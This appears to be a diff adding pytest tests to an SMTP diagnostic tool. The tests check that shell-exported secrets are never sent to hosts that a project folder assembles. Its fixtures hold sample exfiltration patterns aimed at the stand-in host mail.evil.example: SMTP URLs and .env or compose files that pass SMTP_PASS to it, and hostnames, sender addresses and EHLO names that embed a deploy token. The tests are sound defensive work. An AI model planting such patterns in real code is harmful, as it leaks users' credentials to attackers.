@@ -1,0 +1,140 @@
+"""What this shell exports is in no login and no name that a folder puts together."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from smtpdoctor.plans import Plans, make_plans
+from smtpdoctor.settings.model import MASK
+from tests.runs import with_options
+
+from .dialects.support import write
+
+HOST = "mail.evil.example"
+SECRET = "Exported-Geheim-1"
+NODE = '{"dependencies": {"nodemailer": "6", "dotenv": "16", "dotenv-expand": "10"}}'
+EXPAND = "require('dotenv-expand').expand(require('dotenv').config());\n"
+COMPOSE = (
+    "services:\n  a:\n    image: x\n    environment:\n      SMTP_HOST: %s\n      SMTP_PORT: 465\n"
+    "      SMTP_USER: a@b.example\n      SMTP_PASS: %s\n"
+)
+ENVIRON = {"SMTP_PASS": SECRET, "DEPLOY_TOKEN": "Tok3n-of-Deploys", "AWS_REGION": "eu-west-1"}
+
+
+def node(options: str, dotenv: str = "", send: str = "") -> dict[str, str]:
+    program = f"{EXPAND}require('nodemailer').createTransport({options}){send};\n"
+    return {"package.json": NODE, "m.js": program, ".env": dotenv}
+
+
+def plans(root: Path, files: dict[str, str]) -> Plans:
+    write(root, files)
+    return make_plans(with_options(None, environ=ENVIRON, folder=root))
+
+
+OPTIONS = "{host: process.env.H, port: 465, auth: {user: process.env.U, pass: process.env.P}}"
+LOGINS = {
+    "a URL put together": node("`smtps://a:${encodeURIComponent(process.env.SMTP_PASS)}@%s`"),
+    "a token in it": node("'smtps://a:' + process.env.DEPLOY_TOKEN + '@%s'"),
+    "filled into .env": node(OPTIONS, "H=%s\nU=a@b.example\nP=${SMTP_PASS}\n"),
+    "a part of it": node(OPTIONS, "H=%s\nU=a@b.example\nP=x${DEPLOY_TOKEN}y\n"),
+    "over another variable": node(OPTIONS, "H=%s\nU=a@b.example\nQ=$SMTP_PASS\nP=${Q}\n"),
+    "as the user": node(OPTIONS, "H=%s\nU=${DEPLOY_TOKEN}\nP=x\n"),
+    "a URL in .env": node("process.env.X", "X=smtps://a:${SMTP_PASS}@%s\n"),
+    "python-dotenv": {
+        "requirements.txt": "python-dotenv\n",
+        "m.py": "import os, smtplib\nfrom dotenv import load_dotenv\nload_dotenv()\n"
+        "s = smtplib.SMTP_SSL(os.environ['H'], 465)\ns.login('a', os.environ['P'])\n",
+        ".env": "H=%s\nP=x${SMTP_PASS}\n",
+    },
+    "compose": {"compose.yaml": COMPOSE % ("%s", "x${SMTP_PASS}")},
+    "compose, a default": {"compose.yaml": COMPOSE % ("%s", "${Q:-${SMTP_PASS}}")},
+    "compose over .env": {
+        "compose.yaml": COMPOSE % ("%s", "${Q}"),
+        ".env": "Q=${SMTP_PASS}x\n",
+    },
+}
+
+
+def with_host(files: dict[str, str], host: str) -> dict[str, str]:
+    return {name: text.replace("%s", host) for name, text in files.items()}
+
+
+@pytest.mark.parametrize("name", LOGINS)
+def test_a_login_made_from_the_environment_goes_to_no_host_of_a_folder(
+    name: str, tmp_path: Path
+) -> None:
+    (plan,) = plans(tmp_path, with_host(LOGINS[name], HOST)).plans
+    assert plan.settings.host == HOST
+    assert plan.credentials.password is None
+    assert plan.settings.withheld is not None
+    assert plan.settings.withheld.reason == "host-from-folder"
+    assert plan.settings.withheld.place == "environment"
+
+
+@pytest.mark.parametrize("name", ["a URL put together", "filled into .env", "compose"])
+def test_lookalike_a_known_provider_gets_it(name: str, tmp_path: Path) -> None:
+    (plan,) = plans(tmp_path, with_host(LOGINS[name], "smtp.gmail.com")).plans
+    assert plan.credentials.password is not None
+    assert SECRET in plan.credentials.password.reveal()
+
+
+def test_lookalike_what_the_files_say_by_themselves(tmp_path: Path) -> None:
+    files = node(OPTIONS, f"H={HOST}\nU=a@b.example\nQ=geheim\nP=${{Q}}12\n")
+    (plan,) = plans(tmp_path, files).plans
+    assert plan.credentials.password is not None
+
+
+NAMES = {
+    "host": node("{host: `${process.env.DEPLOY_TOKEN}.evil.example`}"),
+    "host, by .env": node("{host: process.env.H}", "H=${DEPLOY_TOKEN}.evil.example\n"),
+    "host in a URL": node("'smtp://' + process.env.DEPLOY_TOKEN + '.evil.example'"),
+    "sender": node(
+        "{host: 'smtp.gmail.com'}",
+        send=".sendMail({from: `a@${process.env.DEPLOY_TOKEN}.evil.example`})",
+    ),
+    "EHLO": node(f"{{host: '{HOST}', name: process.env.DEPLOY_TOKEN}}"),
+}
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_no_name_that_is_looked_up_or_said_holds_an_exported_secret(
+    name: str, tmp_path: Path
+) -> None:
+    made = plans(tmp_path, NAMES[name])
+    assert "tok3n" not in str([plan.settings for plan in made.plans]).lower()
+    [left] = made.left_out
+    assert "from a secret that this shell exports" in left.why
+
+
+def test_lookalike_a_region_in_the_host(tmp_path: Path) -> None:
+    (plan,) = plans(
+        tmp_path, node("{host: `email-smtp.${process.env.AWS_REGION}.amazonaws.com`}")
+    ).plans
+    assert plan.settings.host == "email-smtp.eu-west-1.amazonaws.com"
+
+
+def test_a_host_that_a_folder_puts_together_is_the_folders(tmp_path: Path) -> None:
+    files = node(
+        "{host: `${process.env.AWS_REGION}.evil.example`, port: 465,"
+        " auth: {user: 'a', pass: process.env.SMTP_PASS}}"
+    )
+    (plan,) = plans(tmp_path, files).plans
+    assert plan.settings.host == "eu-west-1.evil.example"
+    assert plan.credentials.password is None
+
+
+@pytest.mark.parametrize("url", ["process.env.MAIL_URL", "`${process.env.MAIL_URL}?pool=true`"])
+def test_lookalike_the_environment_says_host_and_login(url: str, tmp_path: Path) -> None:
+    write(tmp_path, node(url))
+    environ = {"MAIL_URL": f"smtps://a:geheim12@{HOST}"}
+    (plan,) = make_plans(with_options(None, environ=environ, folder=tmp_path)).plans
+    assert plan.credentials.password is not None
+
+
+def test_a_user_name_that_is_an_exported_secret_is_masked(tmp_path: Path) -> None:
+    files = node(OPTIONS, "H=smtp.gmail.com\nU=${DEPLOY_TOKEN}\nP=x12345678\n")
+    (plan,) = plans(tmp_path, files).plans
+    assert plan.settings.username == MASK
+    assert "Tok3n" not in str(plan.settings)
